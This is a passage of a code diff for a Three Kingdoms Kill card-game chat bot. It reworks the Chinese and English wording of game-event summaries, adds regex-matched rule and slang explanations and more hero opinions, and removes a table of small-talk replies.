-			return `${by}${when}收了${n}个：${deeds.flatMap((deed) => deed.to).map((seat) => called(seat, parties)).join("、")}`;
-		case "take":
-			return by === "" ? `${to}${when}被拿掉${n}张牌${ofDoers}` : `${by}${when}拿掉${to}${n}张牌${ofVictims}`;
-		case "give":
-			return `${by}${when}给了${to}${total(deeds)}张牌${ofVictims}`;
-		case "lift":
-		case "wuxie":
-			return `${by}${when}无懈了${n}次`;
-		case "use": {
-			const lost = pointsOf(all, parties.scene);
-			const took = lost === null ? "" : lost === 0 ? "，一点血没掉" : `，打掉${lost}点血`;
-			if (by === "" && to !== "") return `冲着${to}的${card}${when}${n}张${ofDoers}${took}`;
-			if (by === "") return `${card}${when}出过${n}张${ofDoers}${took}`;
-			if (asked.cards.length === 1 && asked.cards[0] === "sha") return `${by}${when}砍了${to}${n}刀${ofVictims}${took}`;
-			return `${by}${when}${to === "" ? "" : `对${to}`}用了${n}张${card}${ofVictims}${took}`;
-		}
-	}
-}
-function sumEn(all, parties, nameOf) {
-	const { asked, deeds } = all;
-	const { by, to, card, when, n, points, ofDoers, ofVictims } = sumOf2(all, parties, nameOf);
-	const whom = to === "" ? "" : ` to ${to}`;
-	switch (asked.what) {
-		case "hurt":
-			if (!points)
-				return `${by || card || "that"} hit${to === "" ? "" : ` ${to}`} ${timesEn(n)} ${when}, for ${total(deeds)} damage`;
-			if (by !== "" || to === "")
-				return `${by || card} dealt ${n} damage${whom} ${when}${by !== "" && card !== "" ? ` with ${card}` : ""}${ofVictims}`;
-			return `${to} lost ${n} health ${when}${ofDoers}`;
-		case "heal":
-			return by !== "" && to !== "" ? `${by} healed ${to} ${total(deeds)} ${when}` : `${to || by} got back ${total(deeds)} health ${when}`;
-		case "kill":
-			return `${by || "they"} killed ${n} ${when}: ${deeds.flatMap((deed) => deed.to).map((seat) => called(seat, parties)).join(", ")}`;
-		case "take":
-			return by === "" ? `${to} lost ${n} ${n === 1 ? "card" : "cards"} ${when}${ofDoers}` : `${by} took ${n} ${n === 1 ? "card" : "cards"}${to === "" ? "" : ` off ${to}`} ${when}${ofVictims}`;
-		case "give":
-			return `${by || "they"} gave ${total(deeds)} cards${whom} ${when}${ofVictims}`;
-		case "lift":
-		case "wuxie":
-			return `${by || "they"} nullified ${timesEn(n)} ${when}`;
-		case "use": {
-			const took = pointsOf(all, parties.scene);
-			const cost = took === null ? "" : took === 0 ? ", for no damage" : `, for ${took} damage`;
-			const on = to === "" ? "" : ` on ${to}`;
-			return by === "" ? `${card} came${to === "" ? "" : ` at ${to}`} ${timesEn(n)} ${when}${ofDoers}${cost}` : `${by} used ${card}${on} ${timesEn(n)} ${when}${ofVictims}${cost}`;
-		}
-	}
-}
+const UNITS = { kill: "个", take: "张", give: "张" };
 function meansText(last, timeless, parties, nameOf) {
 	if (last === void 0) return "";
 	const card = last.card === null ? "" : cardNamed(last.card, parties.language, nameOf);
@@ -33833,23 +33965,46 @@ function meansText(last, timeless, parties, nameOf) {
 }
 function whomText({ asked, deeds }, parties, nameOf) {
 	const last = deeds[deeds.length - 1];
-	const same = deeds.filter(({ turn, by }) => turn === last?.turn && by === last.by);
-	const card = cardsNamed(asked, parties, nameOf);
+	const every = asked.all || asked.wants === "victims";
+	const { by, card } = namesOf2(asked, parties, nameOf);
 	const shares = sharesOf(
-		same,
+		deeds.filter((deed) => every || deed.turn === last?.turn && deed.by === last.by),
 		({ to }) => to,
 		({ num }) => num
 	);
 	const names = shares.map(([seat]) => called(seat, parties, true));
 	const n = shares[0]?.[1] ?? 0;
-	const each = shares.every(([, one]) => one === n) ? n : null;
-	if (parties.language === "zh") {
-		const what = asked.what === "heal" ? "回了血" : asked.what === "hurt" ? "掉了血" : "挨上了";
-		return `${card === "" ? "" : `${card}：`}${names.join("、")}${what}${each !== null && asked.what !== "use" && each > 0 ? `，${shares.length > 1 ? "各" : ""}${each}点` : ""}`;
-	}
-	const verb = asked.what === "heal" ? "got back" : "lost";
-	return asked.what === "use" ? `${card} went to ${names.join(", ")}` : `${names.join(", ")} ${verb} ${each === null ? "health" : `${each} health`}${shares.length > 1 && each !== null ? " each" : ""}${card === "" ? "" : ` by ${card}`}`;
+	const health = (asked.what === "hurt" || asked.what === "heal") && shares.every(([, one]) => one === n);
+	const bore = BORE[parties.language][asked.what];
+	const several = names.length > 1;
+	if (parties.language === "zh")
+		return `${by}${card}${card === "" || every ? "" : "："}${every ? `${names.length}个${bore}：` : ""}${names.join("、")}${every ? "" : bore}${health ? `，${several ? "各" : ""}${n}点` : ""}`;
+	return `${names.join(", ")} ${bore}${health ? `, ${n}${several ? " each" : ""}` : ""}${card === "" ? "" : ` by ${card}`}`;
 }
+const BORE = {
+	zh: {
+		use: "挨上了",
+		hurt: "掉了血",
+		heal: "回了血",
+		kill: "倒下了",
+		take: "丢了牌",
+		give: "拿到牌",
+		lift: "解了牌",
+		wuxie: "受了无懈",
+		laid: "挂着牌"
+	},
+	en: {
+		use: "got it",
+		hurt: "lost health",
+		heal: "got back health",
+		kill: "fell",
+		take: "lost cards",
+		give: "got cards",
+		lift: "had it lifted",
+		wuxie: "got shielded",
+		laid: "had one"
+	}
+};
 function nothing(asked, parties, nameOf) {
 	const { by, to, card, when } = namesOf2(asked, parties, nameOf);
 	const zh = parties.language === "zh";
@@ -33859,24 +34014,26 @@ function nothing(asked, parties, nameOf) {
 	return [by === "" ? "nobody" : by, by === "" ? "" : "never", does, window2].filter((word) => word !== "").join(" ");
 }
 const DID_ZH = {
-	use: (to, card) => `${to === "" ? "" : `对${to}`}用过${card}`,
+	use: (to, card) => card === "杀" ? `砍过${to || "谁"}` : `${to === "" ? "" : `对${to}`}用过${card}`,
 	hurt: (to, card) => `${card === "" ? "" : `用${card}`}打掉过${to === "" ? "谁" : to}的血`,
 	heal: (to) => `给${to === "" ? "谁" : to}回过血`,
 	kill: () => "杀过人",
 	take: (to, card) => `拿过${to === "" ? "谁" : to}的${card === "" ? "牌" : card}`,
 	give: (to) => `给过${to}牌`,
 	lift: (to, card) => `解过${to === "" ? "" : `${to}的`}${card}`,
-	wuxie: () => "出过这张无懈"
+	wuxie: () => "无懈过",
+	laid: () => "头上还挂着判定牌"
 };
 const DID_EN = {
 	use: (to, card) => `used ${card}${to === "" ? "" : ` on ${to}`}`,
 	hurt: (to, card) => `took any health${to === "" ? "" : ` from ${to}`}${card === "" ? "" : ` with ${card}`}`,
 	heal: (to) => `healed ${to === "" ? "anybody" : to}`,
-	kill: () => "killed anybody",
-	take: (to, card) => `took ${card === "" ? "a card" : card}${to === "" ? "" : ` from ${to}`}`,
+	kill: () => "got a kill",
+	take: (to, card) => `took ${card || "a card"}${to === "" ? "" : ` from ${to}`}`,
 	give: (to) => `gave ${to === "" ? "anybody" : to} a card`,
 	lift: (to, card) => `took ${card} off ${to === "" ? "anybody" : to}`,
-	wuxie: () => "nullified that"
+	wuxie: () => "nullified it",
+	laid: () => "has a card to be judged"
 };
 
 // src/chatter/plan/words/aside.ts
@@ -33884,92 +34041,51 @@ const CARE2 = {
 	zh: ["想说就说，我听着", "慢慢来，不急"],
 	en: ["Say it if you like; I am listening", "Take your time; there is no hurry"]
 };
-const REMARKS2 = {
-	health: {
-		zh: ["身子是本钱，牌局排后头", "久坐伤腰，打一局起来走走"],
-		en: ["health comes before any game", "one should get up and stretch between games"]
-	},
-	loss: {
-		zh: ["走了的人，记着就还在", "这种事，急不来"],
-		en: ["whoever is remembered is not quite gone", "such things take their time"]
-	},
-	love: {
-		zh: ["感情的事比猜身份还难", "有人惦记是福气"],
-		en: ["love is harder to read than roles", "to be thought of is a blessing"]
-	},
-	work: {
-		zh: ["活是干不完的，牌是要打的", "下了班就别想班上的事"],
-		en: ["work never ends, but games should begin", "leave the office at the office"]
-	},
-	study: {
-		zh: ["书要念，牌也要打，两不误才好", "考完再打，牌更香"],
-		en: ["study and play can live side by side", "cards taste sweeter after the exam"]
-	},
-	sleep: {
-		zh: ["困了就睡，牌明天还在", "夜里打牌，手气都打瞌睡"],
-		en: ["sleep when you are tired; the cards will keep", "late at night even luck dozes off"]
-	},
-	food: {
-		zh: ["打牌费脑子，吃饱才算得清", "我吃不着，你替我多吃两口"],
-		en: ["thinking is hungry work, so eat first", "I cannot taste it, so have some for me"]
-	},
-	weather: {
-		zh: ["外头什么天，这桌上都是刀光", "冷热都顾着点身子"],
-		en: ["whatever the weather, blades flash at this table", "dress for it and keep well"]
-	},
-	money: {
-		zh: ["钱的事急不得，牌桌上没有房贷", "这儿只赌身份，不赌钱"],
-		en: ["money cannot be hurried; there is no mortgage here", "we stake roles here, never money"]
-	},
-	family: {
-		zh: ["家里和气，打牌都顺手", "有空多陪陪家里人"],
-		en: ["peace at home makes for good cards", "spend time with them when you can"]
-	},
-	heroes: {
-		zh: ["各有各的厉害，还看谁来使", "名将看时势"],
-		en: ["each has a strength; it depends who plays them", "great names need their moment"]
-	},
-	cards: {
-		zh: ["牌好不如打得明白", "手气轮流转，别急"],
-		en: ["a clear head beats a good hand", "luck comes round in turn"]
-	},
-	luck: {
-		zh: ["手气这东西，越念叨越躲着你", "下一张没准就转运"],
-		en: ["luck hides from those who call it", "the next card may turn it"]
-	},
-	self: {
-		zh: ["我是这局里的 AI，看得见的和你一样多", "我没有真人在后头，就是个 AI"],
-		en: ["I am an AI at this table and see what you see", "nobody sits behind me; I am an AI"]
-	},
-	time: {
-		zh: ["日子过得快，一局牌的工夫就天黑", "不早了，打完这局记得歇"],
-		en: ["time flies; one game and it is dark", "it is getting late; rest after this one"]
-	},
-	news: {
-		zh: ["外头的热闹我看不着，你讲讲", "新鲜事我知道得少，听你说"],
-		en: ["I see nothing of the world outside; tell me", "I know little of the news, so do tell"]
-	},
-	other: {
-		zh: ["这事我懂得不多，你说我听", "听着有意思，接着讲"],
-		en: ["I know little of that; tell me more", "that sounds interesting; go on"]
-	}
-};
 
 // src/chatter/plan/words/rules.ts
 const RULES5 = [
 	{
-		asked: /传|铁索|连环|拴|chain/,
+		asked: /传|铁索|连环|拴|链|横(?:着|置|过来)|chain/,
 		rule: {
 			zh: "铁索只传火和雷的伤害，普通的杀不传",
 			en: "chains only pass on fire and thunder damage, not a plain Strike"
 		}
 	},
 	{
-		asked: /几(?:张|次)杀|杀几|how many (?:strikes?|slash)/,
+		asked: /几(?:张|次)杀|杀几|杀.*回合|回合.*杀|(?:slash|strike).*(?:turn|times|twice|legal|allowed)|how many (?:strikes?|slash)/,
 		rule: {
-			zh: "一般一回合只能出一张杀，有连弩另说",
-			en: "normally one Strike a turn, unless you have the Crossbow"
+			zh: "一般一回合只能出一张杀，连弩和有的技能另说",
+			en: "normally one Strike a turn, unless a Crossbow or a skill allows more"
 		}
+	},
+	{
+		asked: /[两二俩2](?:点|滴|格)?(?:血|伤|hp)|双倍|\b(?:2|two|double) (?:dmg|damage|hp|health)/,
+		rule: {
+			zh: "不是bug，喝酒、火烧藤甲或技能都能多一点伤害",
+			en: "no bug: Wine, fire on Vine Armour or a skill can make it 2"
+		}
+	},
+	{
+		asked: /跳[反忠内]|表忠|\bjump/,
+		rule: {
+			zh: "跳就是拿行动亮明站哪边，比如砍主公、救主公",
+			en: "to jump is to show your side by a deed, like hitting the lord"
+		}
+	},
+	{
+		asked: /集火|focus/,
+		rule: { zh: "集火就是几个人一起盯着一个打", en: "to focus somebody is to hit one player together" }
+	},
+	{ asked: /盲狙/, rule: { zh: "盲狙就是没凭没据先打一个", en: "it means to strike on a hunch" } },
+	{
+		asked: /卖血/,
+		rule: { zh: "卖血就是拿挨打换技能的好处", en: "it means to take hits for what a skill gives back" }
+	},
+	{ asked: /苟|划水/, rule: { zh: "就是躲着少出手，等别人先拼", en: "it means to lie low while others fight" } },
+	{ asked: /补刀/, rule: { zh: "补刀就是把残血的收掉", en: "it means to finish off whoever is low" } },
+	{
+		asked: /aoe/,
+		rule: { zh: "aoe就是南蛮、万箭这种打所有人的牌", en: "an aoe hits everybody: Barbarians, Arrow Rain" }
 	},
 	{
 		asked: /距离|够不着|range|distance/,
@@ -34133,10 +34249,10 @@ const UNTIL = {
 	en: { turn: "this turn", round: "this round", game: "this game" }
 };
 const at = (list, chance) => list[Math.floor(chance * list.length)];
-const ruleFor = (heard) => {
+const ruleFor = (heard, key = "") => {
 	const card = cardsIn(heard).find((one) => CARD_RULES[one.card] !== void 0)?.card;
 	const rule = RULES5.find(({ asked }) => asked.test(heard))?.rule;
-	return rule ?? (card === void 0 ? void 0 : CARD_RULES[card]) ?? ANY_RULE;
+	return CARD_RULES[key] ?? rule ?? (card === void 0 ? void 0 : CARD_RULES[card]) ?? ANY_RULE;
 };
 const NAMES_CARD = new Set([
 	"did_use",
@@ -34152,7 +34268,7 @@ const banterFor = (heard, language, chance) => at(BANTER.find((one) => one.heard
 const numbered = (seat, { me, you, language }) => seat === me || seat === you ? { zh: seat === me ? "我" : "你", en: seat === me ? "me" : "you" }[language] : { zh: `${seat}号`, en: `seat ${seat}` }[language];
 function fillingOf(plan, wording, parties) {
 	const { scene, me, language, heard, nameOf, seed, purpose } = wording;
-	const { about, role, facts = [], sure = 0, question, topic, count, words, times } = plan;
+	const { about, role, facts = [], sure = 0, question, count, words, times } = plan;
 	const usedAt = scene.uses.filter(({ by, name }) => by === about && name === words).pop();
 	const chance = (what) => draw(seed, "word", me, what, ...purpose);
 	const told = gathered(facts, plan.clause === "confirm" ? 2 : 3);
@@ -34186,8 +34302,7 @@ function fillingOf(plan, wording, parties) {
 			what: trouble.what,
 			care: at(CARE2[language], chance("care")) ?? "",
 			after: trouble.after,
-			remark: at(REMARKS2[topic ?? "other"][language], chance("remark")) ?? "",
-			rule: ruleFor(heard)[language],
+			rule: ruleFor(heard, words)[language],
 			banter: banterFor(heard, language, chance("banter")).replace("{lord}", called(scene.table.lord, parties)),
 			lord: called(scene.table.lord, parties),
 			// Whom the person is to leave alone: the lord, or, where it is the lord who asks, this one.
@@ -34206,298 +34321,6 @@ function unknownIn({ question }, { detection, language }) {
 	if (item === void 0) return null;
 	return item.startsWith("场上没有") ? `${item}，你说的是谁？` : `${item}？`;
 }
-
-// src/chatter/plan/life/words/chat.ts
-const CHAT = {
-	/** Where no more is known than that it is not of the game. */
-	any_chat: {
-		zh: [
-			"哈，说得我都想看看你那边什么样了。",
-			"我是 AI，没嘴没老家，听你说倒挺新鲜。",
-			"嘿，这日子过得有意思。还有呢？",
-			"听着就热闹，我只有这张桌子。"
-		],
-		en: [
-			"Ha, I'd like to see that. Tell me more.",
-			"I'm an AI, no stomach and no home town, but I like hearing about it.",
-			"Sounds like quite a day. What else is going on?",
-			"All I have is this table, so do tell."
-		]
-	},
-	well_again: {
-		zh: ["没事就好，松了口气。", "太好了，身子最要紧，好好养着。", "好消息！这局都打得轻快了。"],
-		en: [
-			"That's a relief. I'm glad.",
-			"Wonderful news; rest well now.",
-			"So good to hear. That lifts the whole table."
-		]
-	},
-	study_done: {
-		zh: ["恭喜！功夫没白下。", "厉害，这下能踏实打牌了。", "过了就好，今晚不用看书。"],
-		en: ["Congratulations! The work paid off.", "Well done. Now play with a clear head.", "Nice, no books tonight."]
-	},
-	work_good: {
-		zh: ["恭喜恭喜，这杯得你请。", "好事！该你的总会来。", "行啊，这下打牌都有底气了。"],
-		en: ["Congratulations! You earned it.", "That's great news. Drinks are on you.", "Well deserved, I am sure."]
-	},
-	love_good: {
-		zh: ["恭喜！这可比赢一局强。", "好事成双，祝你们俩好好的。", "真好，喜糖别忘了这桌。"],
-		en: [
-			"Congratulations! That beats winning any game.",
-			"That's lovely. All the best to you both.",
-			"Wonderful! Don't forget this table's cake."
-		]
-	},
-	family_good: {
-		zh: ["恭喜恭喜，添丁是大喜事。", "真好，往后打牌得抽空了。", "母子平安最要紧，恭喜。"],
-		en: [
-			"Congratulations! What wonderful news.",
-			"That's lovely. Sleep while you still can.",
-			"All the best to the little one."
-		]
-	},
-	money_good: {
-		zh: ["进账了？好事，别一晚上花光。", "手里有钱，打牌不慌。恭喜。", "行啊，今晚加个鸡腿。"],
-		en: [
-			"Money in at last! Treat yourself a little.",
-			"Nice. Don't spend it all tonight.",
-			"Congratulations; that feels good."
-		]
-	},
-	birthday: {
-		zh: ["生日快乐！这局先让你三分，嘴上让。", "生日快乐，愿你今年顺顺当当。", "寿星来了，祝你吃好睡好。"],
-		en: [
-			"Happy birthday! May the cards be kind to you.",
-			"Happy birthday! I'd bake a cake if I had hands.",
-			"Many happy returns. Have a good one."
-		]
-	},
-	birthday_kin: {
-		zh: ["替我祝{kin}生日快乐，身体硬朗。", "{kin}生日？好日子，多陪陪。"],
-		en: ["Happy birthday to {kin}! Give them my best.", "A birthday for {kin}? How lovely."]
-	},
-	crush: {
-		zh: [
-			"喜欢就找个由头多聊两句，别一上来就全说。",
-			"不敢开口很正常，先约杯咖啡试试。",
-			"藏半年，人家也未必看不出来。"
-		],
-		en: [
-			"Sounds sweet. Start with a coffee, not a confession.",
-			"It's scary to say it. Small steps: talk a little more each day.",
-			"They may have noticed already, you know."
-		]
-	},
-	single: {
-		zh: ["单着自在，急什么。", "缘分这事急不来，先把日子过舒服。", "一个人也能凑一桌，这不八个人呢。"],
-		en: [
-			"Single is fine; no rush.",
-			"It comes when it comes. Enjoy your own company.",
-			"You've a whole table for company, anyway."
-		]
-	},
-	rain: {
-		zh: ["下雨天打牌正好，哪儿也别去。", "雨大路滑，赶回来没淋着吧？", "外头下雨，屋里打牌，这日子行。"],
-		en: [
-			"Rain outside and cards inside; that suits me.",
-			"Perfect weather to stay in. I hope you kept dry.",
-			"Let it pour; nobody has to go anywhere."
-		]
-	},
-	heat: {
-		zh: ["热成这样，多喝水，别中暑。", "空调要紧，牌可以慢慢打。", "我没温度，替你热不了，开窗吹吹吧。"],
-		en: [
-			"That's hot. Drink some water and find a fan.",
-			"I feel no heat myself, but that sounds like an oven.",
-			"Too hot to think; take your time."
-		]
-	},
-	cold: {
-		zh: ["天冷加件衣裳，手冷打错牌。", "泡杯热的捂捂手，慢慢打。", "这天就该窝着打牌，别出门。"],
-		en: [
-			"Put on something warm; cold hands play badly.",
-			"Get a hot drink and stay in.",
-			"That's a day for blankets and cards."
-		]
-	},
-	fine_day: {
-		zh: ["天这么好，打完出去走走。", "好天气，心情也跟着亮堂。", "太阳好，晒晒被子再打。"],
-		en: ["A fine day; go for a walk after this one.", "Sunshine helps everything.", "Enjoy it while it lasts."]
-	},
-	weather: {
-		zh: ["天一变就多留神，别着凉。", "我这儿没窗户，天气全听你说。", "管它什么天，桌上有牌打就行。"],
-		en: [
-			"I have no window, so I take your word for it.",
-			"Whatever the weather, there are cards to play.",
-			"Dress for it, and keep well."
-		]
-	},
-	food_choice: {
-		zh: ["让我选？热乎的那个。可惜我没嘴。", "选人多吃得热闹的，剩下那个明天再吃。", "闭眼选前一个，想太久都凉了。"],
-		en: [
-			"I'd take whichever is hotter, if I had a mouth.",
-			"The first one you named; you want it already.",
-			"Both. One now, one tomorrow."
-		]
-	},
-	late_snack: {
-		zh: ["宵夜就吃热的，少辣，吃完好睡。", "听着就香，可惜我吃不着。", "赢了加个蛋，输了也加个蛋。"],
-		en: [
-			"Something warm and light, so you can sleep after.",
-			"Sounds delicious; I wish I could taste it.",
-			"Win or lose, have that snack."
-		]
-	},
-	hungry: {
-		zh: ["饿着打牌算不清，先垫两口。", "我吃不着，你趁热吃，面别坨了。", "吃饱再打，不差这一圈。"],
-		en: [
-			"Don't play on an empty stomach; grab a bite.",
-			"I don't eat, but you should.",
-			"Eat while it is hot; we can wait a minute."
-		]
-	},
-	drink: {
-		zh: ["我喝不了，你那杯替我多喝一口。", "甜的解乏，悠着点，晚上睡不着。", "喝着打着，舒坦。别洒牌上。"],
-		en: [
-			"Have a sip for me; I can't.",
-			"Careful, or you will be awake all night.",
-			"A drink and a game; sounds good to me."
-		]
-	},
-	food: {
-		zh: ["说得我都想有张嘴了。", "好吃就多吃点，吃饱不想家。", "我不吃饭，就爱听你们说吃的。"],
-		en: [
-			"You make me wish I had a mouth.",
-			"I've never tasted it; what's it like?",
-			"Enjoy it; good food makes good players."
-		]
-	},
-	weekend: {
-		zh: ["我周末也在这桌，你躺平就好，歇够了再来。", "睡到自然醒，再约人打两把。", "我没有周末，你替我多睡会儿。"],
-		en: [
-			"I'll be right here; I don't get weekends. You go and rest.",
-			"Sleep in first; plans can wait.",
-			"No plans of mine. What are yours?"
-		]
-	},
-	late: {
-		zh: ["是不早了，打完这局就去睡。", "夜里打牌易上头，悠着点。", "这个点还没睡的都是真爱。"],
-		en: [
-			"It is late; get some sleep after this one.",
-			"Night owls, all of us. One game, then bed.",
-			"Careful, late games run long."
-		]
-	},
-	sport: {
-		zh: ["我跑不动，你替我出身汗。", "看球归看球，牌别出错。", "这热闹我凑不上，你讲讲。"],
-		en: [
-			"Good for you; I've no legs to run with.",
-			"I can't watch it, so tell me who is winning.",
-			"Stretch a little; sitting is no sport."
-		]
-	},
-	music: {
-		zh: ["我没耳朵，歌名报来，我记着。", "放着歌打牌，手都顺。"],
-		en: ["I have no ears for it; what do you like?", "Cards go well with music."]
-	},
-	shows: {
-		zh: ["我没看过，别剧透，讲个开头就行。", "听着不错，你给几分？", "追完记得睡觉。"],
-		en: [
-			"Haven't seen it. No spoilers, but is it good?",
-			"How many stars would you give it?",
-			"Just don't stay up for one more episode."
-		]
-	},
-	games: {
-		zh: ["那个我不会，我只会打这副牌。", "换着玩挺好，眼睛歇歇。"],
-		en: ["I only know this one game, I am afraid.", "Sounds fun. How is it going there?"]
-	},
-	news: {
-		zh: ["外头的热闹我看不着，你讲讲。", "新鲜事我知道得少，听你说。"],
-		en: ["I see nothing of the world outside; tell me.", "I know little of the news, so do tell."]
-	},
-	travel: {
-		zh: ["一路平安，到了报个信。", "出门在外，看好行李。", "真好，替我多看两眼。"],
-		en: ["Safe travels.", "Sounds nice. See a bit of it for me.", "Mind your luggage, and enjoy it."]
-	},
-	pets: {
-		zh: ["家里有只小家伙，热闹。替我摸一把。", "它八成也想上桌打牌。", "养得真好，别让它踩了键盘。"],
-		en: [
-			"Give it a pat from me.",
-			"It probably wants a seat at the table.",
-			"Sounds adorable. Keep it off the keyboard."
-		]
-	},
-	work: {
-		zh: ["下了班就别想班上的事，打牌。", "活是干不完的，先歇口气。", "工作归工作，这会儿是你的。"],
-		en: ["Leave the office at the office.", "Work never ends; take your break.", "This hour is yours."]
-	},
-	study: {
-		zh: ["书要念，牌也要打，两不误才好。", "考完再打，牌更香。", "别光顾着打牌，作业写了没？"],
-		en: [
-			"Study and play can live side by side.",
-			"Cards taste sweeter after homework.",
-			"Don't let us keep you from your books."
-		]
-	},
-	family: {
-		zh: ["家里有人惦记，是福气。", "有空多陪陪家里人。", "替我问声好。"],
-		en: ["It is good to have them around.", "Say hello from the table.", "Spend time with them when you can."]
-	},
-	luck_bad: {
-		zh: ["手气这么背？洗洗手，下一圈转运。", "牌黑是常事，先苟住，别乱打。", "这牌搁谁手里都发愁，熬一圈。"],
-		en: [
-			"That's rotten luck. It has to turn.",
-			"Bad cards happen to everybody; sit tight for a round.",
-			"Tough draw. Play it small till it turns."
-		]
-	},
-	luck_doomed: {
-		zh: ["还没到那步，撑过这圈再说。", "别自己咒自己，未必轮到你。"],
-		en: ["Not yet. Get through this round first.", "Don't jinx yourself; it may pass you by."]
-	},
-	luck_good: {
-		zh: ["手气这么旺？悠着点，风水轮流转。", "行啊，牌来了挡不住，羡慕。", "好牌也得会打，别浪。"],
-		en: ["Lucky you; make it last.", "Some hand! Enjoy it while it lasts.", "I'm jealous. Don't waste it."]
-	},
-	luck_yours: {
-		zh: ["赶巧罢了，下一圈就轮到别人了。", "运气也是本事，你别眼红。", "就旺这一阵，等会儿准还回去。"],
-		en: ["Just luck, and it never stays long.", "Even I get a good draw now and then.", "It will be your turn next."]
-	},
-	greet_mercy: {
-		zh: ["你也好。刀我尽量轻点，牌可不听话。", "来了就是客，头一圈先让着你。", "好说好说，你也手下留点情。"],
-		en: [
-			"Hello! I'll try to be gentle, but no promises.",
-			"Welcome. Go easy on me too, then.",
-			"Hi there. Mercy in the first round, maybe."
-		]
-	},
-	greet_luck: {
-		zh: ["你也好，祝大家牌都顺手。", "借你吉言，好好打一局。"],
-		en: ["Hello, and good luck to you too!", "Hi! May the best liar win.", "Same to you. Have a good game."]
-	},
-	joke_told: {
-		zh: ["哈，冷是真冷，可我笑了。", "这个我记下了，回头讲给别人。", "噗，算你赢一回。"],
-		en: ["Ha! That's terrible. I like it.", "Groan. All right, that one got me.", "I am keeping that one for later."]
-	},
-	joke_riddle: {
-		zh: ["猜不出，你揭底吧。", "这我可不会，别卖关子。"],
-		en: ["I give up, tell me.", "No idea. Go on."]
-	},
-	joke_knock: { zh: ["谁呀？"], en: ["Who's there?"] },
-	joke_met: {
-		zh: ["冷是冷了点，解个闷嘛。", "好歹你也哼了一声，够本。", "笑点就这点，多担待。"],
-		en: [
-			"I know, I know. I'll be here all week.",
-			"You reacted; I call that a win.",
-			"I never said it was a good one."
-		]
-	}
-};
-const ANYTHING = {
-	zh: ["这个有意思，你接着说。", "嗯，听着呢。", "说得我也想聊两句了。"],
-	en: ["Go on, I am curious.", "I hear you.", "Tell me more of that."]
-};
 
 // src/chatter/plan/life/words/heroes.ts
 const OPINIONS = {
@@ -34548,7 +34371,26 @@ const OPINIONS = {
 	刘禅: ["乐不思蜀是真乐，也是真没招", "happier without a crown"],
 	孟获: ["被抓七回还敢来，够倔", "caught seven times, and still game"],
 	陈宫: ["跟错了人，骨头是硬的", "wrong master, stiff spine"],
-	马谡: ["书读得透，山扎错了", "knew every book, and camped on the wrong hill"]
+	马谡: ["书读得透，山扎错了", "knew every book, and camped on the wrong hill"],
+	刘谌: ["刘禅的儿子，国亡那天宁死不降", "Liu Shan's son, who died rather than surrender"],
+	左棻: ["诗写得好，左思的妹妹", "a poet, sister of Zuo Si and consort of the Jin emperor"],
+	唐周: ["黄巾里告密的那个", "the one who informed on the Yellow Turbans"],
+	张星彩: ["张飞的女儿，刘禅的皇后，枪使得好", "Zhang Fei's daughter, Liu Shan's empress, quick with a Strike"],
+	曹叡: ["甄姬的儿子，精明，就爱盖宫殿", "Zhen Ji's son, shrewd, and too fond of palaces"],
+	曹丕: ["文章好，心也狠，汉朝就断在他手里", "a fine writer with a hard heart, who ended the Han"],
+	曹植: ["七步成诗，就是太爱喝", "a poem in seven steps, and a cup too many"],
+	徐庶: ["身在曹营心在汉", "in Cao Cao's camp, with his heart elsewhere"],
+	黄盖: ["苦肉计，一般人下不去手", "took a beating to burn a fleet"],
+	于禁: ["一辈子严整，晚年栽在投降上", "strict all his life, shamed by one surrender"],
+	文鸳: ["冲阵不输赵云，可惜死在旧仇上", "charged like Zhao Yun, and fell to an old grudge"],
+	王允: ["连环计除了董卓，得意太早", "brought down Dong Zhuo, and gloated too soon"],
+	司马炎: ["司马懿的孙子，三国归了他", "Sima Yi's grandson, who ended up with all three kingdoms"],
+	祝融: ["飞刀在手，比老公猛", "throws knives, and outfights her husband"],
+	凯撒: ["罗马来的客将，凑个热闹", "a guest from Rome, here for the fun of it"]
+};
+const PICKED = {
+	zh: ["我选{hero}，{remark}。", "我投{hero}一票：{remark}。"],
+	en: ["I would pick {hero}: {remark}.", "My vote goes to {hero}: {remark}."]
 };
 const HERO_LINES = {
 	opinion: {
@@ -34559,44 +34401,27 @@ const HERO_LINES = {
 		zh: ["{hero}我也有话说：{remark}。", "见仁见智，我看{hero}，{remark}。"],
 		en: ["You may be right. My view of {hero}: {remark}.", "Bold words. As for {hero}: {remark}."]
 	},
-	whatif: {
-		zh: ["要真能重来也难说，{hero}这人，{remark}。", "差的不止那一点，{hero}，{remark}。"],
-		en: ["Hard to say; {hero} is {hero}: {remark}.", "It might not have changed much. {hero}: {remark}."]
+	whatif: { zh: ["要真能重来也难说，{hero}这人，{remark}。"], en: ["Hard to say; {hero} is {hero}: {remark}."] },
+	unknown: {
+		zh: ["{hero}书里的事我记不细，这桌上{record}。"],
+		en: ["I don't recall {hero}'s story; at this table {hero} {record}."]
 	},
-	power: {
-		zh: ["强不强看谁使，点开技能看最准。", "将是死的，会使就强。"],
-		en: ["Depends on who plays it; read the skill and see.", "Strong enough in the right hands."]
+	power: { zh: ["{hero}嘛，{record}，{verdict}。"], en: ["{verdict}: {hero} {record}."] },
+	suits: { zh: ["{hero}我会拿{role}。"], en: ["I would play {hero} {role}."] },
+	feared: { zh: ["我最怕{hero}，{remark}。"], en: ["I dread {hero} most: {hero} {remark}."] },
+	version: {
+		zh: ["改过的一般更强；这桌的{hero}{record}。"],
+		en: ["The newer one is usually stronger; here {hero} {record}."]
 	},
-	any: {
-		zh: [
-			"老实说，我认他的牌比认他的书多。你怎么看？",
-			"书我没你熟，只认得牌面上的他。你讲讲？",
-			"这个我说不准，三国我是从牌上认的。你觉得呢？"
-		],
-		en: [
-			"Honestly, I know them by their cards more than by the book. What do you think?",
-			"I'd only be guessing; I learned the Three Kingdoms from cards. You tell me.",
-			"Not sure, to be honest. What is your take?"
-		]
-	},
-	favourite: {
-		zh: ["我最喜欢{hero}，{remark}。", "我选{hero}：{remark}。"],
-		en: ["Mine is {hero}: {remark}.", "I would pick {hero}: {remark}."]
-	},
-	strongest: {
-		zh: ["要说最能打，我押{hero}。", "我投{hero}一票：{remark}。"],
-		en: ["My vote goes to {hero}: {remark}.", "I say {hero}: {remark}."]
-	},
-	looks: {
-		zh: ["我选{hero}，{remark}。", "都好看，非要选就{hero}。"],
-		en: ["I would say {hero}: {remark}.", "All of them are lovely, but {hero} gets my vote."]
-	},
+	any: PICKED,
+	favourite: PICKED,
+	strongest: PICKED,
+	looks: PICKED,
 	compare: {
